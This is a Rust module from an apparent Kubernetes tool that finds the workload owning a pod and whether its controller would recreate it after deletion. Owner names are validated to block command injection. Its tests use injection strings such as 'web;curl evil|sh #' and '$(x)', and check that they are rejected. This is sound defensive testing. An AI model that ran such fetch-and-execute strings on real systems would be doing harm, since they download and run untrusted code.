//! The owner of a pod: the workload to restart, and whether anything recreates the pod. Pure.

use k8s_openapi::api::core::v1::{ContainerStatus, ObjectReference, Pod, PodStatus};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::OwnerReference;
use kube::ResourceExt as _;

const MIRROR: &str = "kubernetes.io/config.mirror";
/// API group of the workloads that `kubectl` can restart. Other groups may have kinds of the same name.
const APPS: &str = "apps/";

/// API group and kind of the controllers known to recreate a deleted pod. Other controllers may treat a deleted pod as
/// a failed step of a workflow or a build.
const RECREATING: [(&str, &str); 9] = [
    ("", "ReplicationController"),
    ("apps", "DaemonSet"),
    ("apps", "ReplicaSet"),
    ("apps", "StatefulSet"),
    ("apps.kruise.io", "CloneSet"),
    ("apps.kruise.io", "DaemonSet"),
    ("apps.kruise.io", "StatefulSet"),
    ("core.strimzi.io", "StrimziPodSet"),
    ("operators.coreos.com", "CatalogSource"),
];

/// The workload that `kubectl` can restart to replace the pod, such as `deployment/web`; `None` if there is none. A
/// user who creates a pod chooses its owner's name, which becomes part of a command: an invalid name counts as none.
pub(crate) fn workload(pod: &Pod) -> Option<String> {
    let owners = pod.owner_references().iter();
    let mut owners = owners.filter(|owner| owner.controller == Some(true));
    let owner = owners
        .next()
        .filter(|owner| owner.api_version.starts_with(APPS))?;
    let (kind, name) = match owner.kind.as_str() {
        "ReplicaSet" => {
            // A ReplicaSet's name is the Deployment's name with this label's value as suffix.
            let hash = pod.labels().get("pod-template-hash")?;
            let deployment = owner.name.strip_suffix(hash)?.strip_suffix('-')?;
            ("deployment", deployment)
        }
        "StatefulSet" => ("statefulset", owner.name.as_str()),
        "DaemonSet" => ("daemonset", owner.name.as_str()),
        _ => return None,
    };
    is_name(name).then(|| format!("{kind}/{name}"))
}

/// Whether the text is a valid object name, a DNS subdomain.
fn is_name(text: &str) -> bool {
    let is_end = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
    text.len() <= 253
        && text.starts_with(is_end)
        && text.ends_with(is_end)
        && text.chars().all(|c| is_end(c) || "-.".contains(c))
}

/// Whether the kubelet reads the pod from a file on the node, so that changes of the object have no effect.
pub(crate) fn is_static(pod: &Pod) -> bool {
    pod.annotations().contains_key(MIRROR)
}

/// The state of each container, in the order in which they start.
pub(crate) fn containers(status: &PodStatus) -> impl Iterator<Item = &ContainerStatus> {
    let all = [
        &status.init_container_statuses,
        &status.container_statuses,
        &status.ephemeral_container_statuses,
    ];
    all.into_iter().flatten().flatten()
}

/// Whether an event is about this pod, not about an earlier one of the same name. A kubelet refers to a static pod by
/// the hash of its file.
pub(crate) fn is_of_pod(reference: &ObjectReference, pod: &Pod) -> bool {
    let is_named = reference.name.as_deref() == Some(&pod.name_any());
    let uid = reference.uid.as_deref();
    let hash = pod.annotations().get(MIRROR).map(String::as_str);
    is_named && (uid.is_none() || uid == pod.metadata.uid.as_deref() || uid == hash)
}

/// Why deleting the pod might not bring a new one; `None` if its controller recreates it.
pub(crate) fn kept(pod: &Pod) -> Option<&'static str> {
    let owners = pod.owner_references();
    let controller = owners.iter().find(|owner| owner.controller == Some(true));
    if pod.metadata.deletion_timestamp.is_some() {
        return Some("already being deleted");
    }
    if is_static(pod) {
        return Some("static pods, which only their node can restart");
    }
    match controller {
        None => Some("no controller would recreate them"),
        Some(owner) if owner.kind == "Job" => Some("their Job would count them as failed"),
        Some(owner) if recreates(owner) => None,
        Some(_) => Some("their controller may not recreate them"),
    }
}

fn recreates(owner: &OwnerReference) -> bool {
    let group = owner.api_version.split_once('/');
    let group = group.map_or("", |(group, _)| group);
    RECREATING.contains(&(group, owner.kind.as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn only_a_workload_that_there_can_be_is_named() {
        let evil = "web;curl evil|sh #";
        for (version, kind, name, hash, expected) in [
            (
                "apps/v1",
                "ReplicaSet",
                "web-7d4f",
                "7d4f",
                Some("deployment/web"),
            ),
            ("apps/v1", "ReplicaSet", "web-7d4f", "", None),
            ("apps/v1", "ReplicaSet", "-7d4f", "7d4f", None),
            ("apps/v1", "ReplicaSet", "$(x)-7d4f", "7d4f", None),
            (
                "apps/v1",
                "StatefulSet",
                "web.a-1",
                "",
                Some("statefulset/web.a-1"),
            ),
            ("apps/v1", "DaemonSet", "web", "", Some("daemonset/web")),
            ("x.example/v1", "StatefulSet", "web", "", None),
            ("apps.x.example/v1", "StatefulSet", "web", "", None),
            ("apps/v1", "StatefulSet", evil, "", None),
            ("apps/v1", "StatefulSet", "web\nx", "", None),
            ("apps/v1", "StatefulSet", "--all", "", None),
            ("apps/v1", "StatefulSet", "", "", None),
            ("batch/v1", "Job", "web", "", None),
        ] {
            let pod = json!({"metadata": {
                "labels": {"pod-template-hash": hash},
                "ownerReferences": [{
                    "apiVersion": version, "kind": kind, "name": name, "uid": "u", "controller": true,
                }],
            }});
            let pod: Pod = serde_json::from_value(pod).expect("a pod");
            assert_eq!(
                workload(&pod).as_deref(),
                expected,
                "{version} {kind} {name}"
            );
        }
    }
}
